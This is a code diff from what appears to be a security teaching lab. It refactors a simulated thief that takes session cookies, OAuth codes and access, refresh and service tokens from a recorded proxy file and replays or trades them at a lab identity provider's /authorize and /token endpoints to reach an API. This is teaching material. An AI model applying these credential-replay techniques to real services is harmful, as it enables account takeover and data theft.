@@ -1,15 +1,21 @@
-"""From a copied credential to data at the API: what a thief does (lessons 06, 11 and 13).
+"""From a recorded file to data at the API: what a thief does (lessons 06, 11 and 13).
 
 Tom needs no password and forges nothing. He uses the doors that everybody uses.
 """
 
 import hashlib
+import json
+from collections.abc import Callable
+from dataclasses import dataclass
+from http.cookies import SimpleCookie
+from typing import Any
 from urllib.parse import parse_qs, urlsplit
 
 import httpx
 
 from labutils.identity.oauth import bearer
 from labutils.identity.tokens import b64
+from labutils.lab import Exchange
 from labutils.stage.two_apps import API, LOGIN, NOTES, TwoApps
 
 ITEMS = ("session cookie", "code", "access token", "refresh token", "service token")
@@ -24,23 +30,49 @@ SILENT_REQUEST = {
     "code_challenge": b64(hashlib.sha256(VERIFIER.encode()).digest()),
     "code_challenge_method": "S256",
 }
+Entry = dict[str, Any]  # one exchange of a recorded file
 
 
-def steal(apps: TwoApps) -> dict[str, str]:
-    """Ada signs in at notes, twice; a copy of all that passes by, by item.
+# --- the file -----------------------------------------------------------------------------------
 
-    The second sign-in has just brought a code to her browser.
+
+def recording(apps: TwoApps) -> list[Entry]:
+    """What a debug proxy of the company's wrote down: each exchange so far, as a dictionary.
+
+    It leaves out forms, so that no password is in it.
     """
-    apps.sign_in("ada", NOTES)
-    session = apps.notes.latest_session()
-    landing = apps.sign_in("ada", NOTES, until=NOTES + "/cb").headers["location"]
+    return [_entry(exchange) for exchange in apps.lab.wire]
+
+
+def _entry(exchange: Exchange) -> Entry:
+    headers = dict(exchange.request_headers)
+    cookies = SimpleCookie(headers.get("cookie", ""))
+    is_json = exchange.header("content-type").startswith("application/json")
     return {
-        "session cookie": apps.session_cookie,
-        "code": query(landing)["code"],
-        "access token": session["access_token"],
-        "refresh token": session["refresh_token"],
-        "service token": apps.service_token(apps.lab.browser("backup", "192.0.2.220")),
+        "client": exchange.client,
+        "host": exchange.host,
+        "path": exchange.path,
+        "headers": {
+            name: text for name, text in headers.items() if name in ("authorization", "user-agent")
+        },
+        "cookies": {name: one.value for name, one in cookies.items()},
+        "status": exchange.status,
+        "answer": json.loads(exchange.response_body) if is_json else {},
     }
+
+
+def morning(apps: TwoApps) -> list[Entry]:
+    """Ada signs in at `notes`, and opens it again; the backup job gets its token. The file."""
+    apps.sign_in("ada", NOTES)
+    apps.sign_in("ada", NOTES)
+    apps.service_token(apps.lab.browser("backup", "192.0.2.220"))
+    return recording(apps)
+
+
+def code_on_its_way(apps: TwoApps) -> str:
+    """An authorization code that Ada's browser has just received, and has not used."""
+    landing = apps.sign_in("ada", NOTES, until=NOTES + "/cb")
+    return query(landing.headers["location"])["code"]
 
 
 def query(address: str) -> dict[str, str]:
@@ -48,38 +80,44 @@ def query(address: str) -> dict[str, str]:
     return {name: values[0] for name, values in parse_qs(urlsplit(address).query).items()}
 
 
-def replay(thief: httpx.Client, item: str, stolen: dict[str, str]) -> httpx.Response:
-    """From a stolen item to data at the API: the answer of the last door that was tried."""
-    if item in ("access token", "service token"):
-        return thief.get(API + "/me", headers=bearer(stolen[item]))
-    if item == "session cookie":
-        answer = trade_cookie(thief, stolen[item])
-    elif item == "code":
-        answer = trade_code(thief, stolen[item])
-    else:
-        answer = trade_refresh_token(thief, stolen[item])
-        stolen[item] = answer.json().get("refresh_token", stolen[item])  # the new one, from now on
-    if not answer.is_success:
-        return answer
-    return thief.get(API + "/me", headers=bearer(answer.json()["access_token"]))
+# --- the thief ----------------------------------------------------------------------------------
 
 
-def trade_cookie(thief: httpx.Client, cookie: str) -> httpx.Response:
-    """A session cookie opens /authorize: it gives a code for the thief's own verifier."""
-    header = {"cookie": "session=" + cookie}
-    answer = thief.get(LOGIN + "/authorize", params=SILENT_REQUEST, headers=header)
-    code = query(answer.headers["location"]).get("code")
-    return answer if code is None else trade_code(thief, code)
+@dataclass(frozen=True)
+class Thief:
+    """A thief's script, made of three functions: what to take, and how to trade two of it."""
+
+    steal: Callable[[list[Entry]], dict[str, str]]
+    refresh: Callable[[httpx.Client, str], Any]
+    trade_cookie: Callable[[httpx.Client, str], Any]
+
+    def robs(self, apps: TwoApps) -> dict[str, str]:
+        """A morning is recorded, and the five are taken."""
+        return {**self.steal(morning(apps)), "code": code_on_its_way(apps)}
+
+    def replay(self, browser: httpx.Client, item: str, stolen: dict[str, str]) -> httpx.Response:
+        """From a stolen item to data at the API: the answer of the last door that was tried."""
+        if item in ("access token", "service token"):
+            return browser.get(API + "/me", headers=bearer(stolen[item]))
+        answer = self.trade(browser, item, stolen)
+        if not answer.is_success:
+            return answer
+        tokens = answer.json()
+        if item == "refresh token":
+            stolen[item] = tokens["refresh_token"]  # the new one, from now on
+        return browser.get(API + "/me", headers=bearer(tokens["access_token"]))
+
+    def trade(self, browser: httpx.Client, item: str, stolen: dict[str, str]) -> Any:
+        """What the token endpoint gives for a cookie, a code or a refresh token."""
+        if item == "session cookie":
+            return self.trade_cookie(browser, stolen[item])
+        if item == "refresh token":
+            return self.refresh(browser, stolen[item])
+        return trade_code(browser, stolen[item])
 
 
-def trade_code(thief: httpx.Client, code: str) -> httpx.Response:
+def trade_code(browser: httpx.Client, code: str) -> httpx.Response:
     """A code at the token endpoint (RFC 6749, 4.1.3), with the thief's verifier (RFC 7636, 4.5)."""
     form = {"grant_type": "authorization_code", "client_id": "notes", "code": code}
     form |= {"redirect_uri": NOTES + "/cb", "code_verifier": VERIFIER}
-    return thief.post(LOGIN + "/token", data=form)
-
-
-def trade_refresh_token(thief: httpx.Client, token: str) -> httpx.Response:
-    """A refresh token at the token endpoint (RFC 6749, 6)."""
-    form = {"grant_type": "refresh_token", "client_id": "notes", "refresh_token": token}
-    return thief.post(LOGIN + "/token", data=form)
+    return browser.post(LOGIN + "/token", data=form)
